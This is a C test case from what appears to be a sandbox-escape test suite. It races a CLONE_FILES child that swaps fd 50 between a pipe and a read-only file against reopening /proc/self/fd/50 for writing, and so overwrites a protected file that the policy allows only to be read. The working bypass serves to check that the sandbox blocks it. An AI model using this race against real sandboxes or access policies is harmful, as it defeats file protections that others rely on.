/*
 * Vectors 1 and 3: /proc/self/fd/N itself, not a name below it. Opening a
 * pipe's fd link is judged by the link's name (there is no file to judge;
 * default.yaml lets /proc/self/fd/N be opened for writing, as
 * `echo x >/dev/stdout` does), and the kernel follows the link again when
 * it opens. A clone(CLONE_FILES) child (our fd table, not our memory)
 * flips fd 50 between a pipe's write end and a read-only fd of
 * protected/victim.txt (which the policy lets us read, not write) with
 * dup2, while we open /proc/self/fd/50 O_WRONLY for 5 s: reopening a magic
 * link checks the inode's permissions, not the fd's mode, so it hands out
 * a writable fd of the read-only file.
 * Policy esc_proc_fd_reopen_race.yaml: protected/victim.txt read-only, and
 * default.yaml's allow-terminal-devices rule.
 * success = victim.txt's content changed.
 * expect: ptrace_file
 * expect-match: victim.txt
 */
#include "esc.h"
#include <sched.h>
#include <signal.h>

int main(void)
{
	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
	long tries = 0;
	int p[2], ro, keep;
	pid_t flipper;
	const char *name;

	ro = open(victim, O_RDONLY);
	if (ro < 0)
		esc_broken("open %s read-only: %s", victim, strerror(errno));
	if (pipe(p) < 0)
		esc_broken("pipe: %s", strerror(errno));
	keep = p[0]; /* a reader, so an open of the write end never blocks */
	flipper = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, NULL, NULL, 0);
	if (flipper < 0)
		esc_broken("fork: %s", strerror(errno));
	if (flipper == 0)
		for (;;) {
			dup2(p[1], 50);
			dup2(ro, 50);
		}
	name = "/proc/self/fd/50";
	for (double end = esc_now() + esc_race_seconds(); esc_now() < end; tries++) {
		struct stat st;
		int fd = open(name, O_WRONLY | O_NONBLOCK);

		if (fd < 0)
			continue;
		if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && write(fd, "pwned", 5) == 5) {
			char buf[32] = "";
			int r = open(victim, O_RDONLY);

			if (r >= 0 && read(r, buf, sizeof(buf) - 1) > 0 && strncmp(buf, "pwned", 5) == 0) {
				kill(flipper, SIGKILL);
				esc_success("wrote protected/victim.txt through %s after %ld tries", name,
					    tries);
			}
		}
		close(fd);
	}
	kill(flipper, SIGKILL);
	esc_wait(flipper);
	(void)keep;
	esc_blocked("protected/victim.txt unchanged in %ld tries", tries);
}
